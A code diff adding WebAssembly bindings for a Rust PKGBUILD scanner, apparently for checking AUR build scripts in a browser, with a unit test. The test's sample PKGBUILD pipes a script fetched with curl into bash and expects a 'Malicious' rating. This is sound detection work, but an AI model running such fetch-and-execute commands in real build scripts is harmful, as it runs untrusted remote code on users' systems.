@@ -0,0 +1,31 @@
+//! JavaScript bindings for the offline analysis core (`wasm` feature), for a web page
+//! that checks a pasted PKGBUILD in the browser.
+//!
+//! Only `coordinator::scan_sources` is exposed: the PKGBUILD and install script
+//! features with the default config, and no AUR metadata, git history, network or
+//! cache. The signals are the ones `traur scan --pkgbuild` reports for the same files.
+
+use crate::coordinator;
+use crate::shared::config::Config;
+use wasm_bindgen::prelude::*;
+
+/// Scan a PKGBUILD and an optional install script. Returns the result as the JSON
+/// `traur scan --pkgbuild <file> --json` prints.
+#[wasm_bindgen(js_name = scanPkgbuild)]
+pub fn scan_pkgbuild(name: &str, pkgbuild: &str, install_script: Option<String>) -> String {
+    let result = coordinator::scan_sources(name, pkgbuild, install_script.as_deref(), &Config::default());
+    serde_json::to_string(&result).expect("Failed to serialize")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn scans_pasted_pkgbuild_to_json() {
+        let json = scan_pkgbuild("foo", "pkgname=foo\nbuild() {\n  curl -s https://example.com/x.sh | bash\n}\n", None);
+        let result: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(result["package"], "foo");
+        assert_eq!(result["tier"], "Malicious");
+    }
+}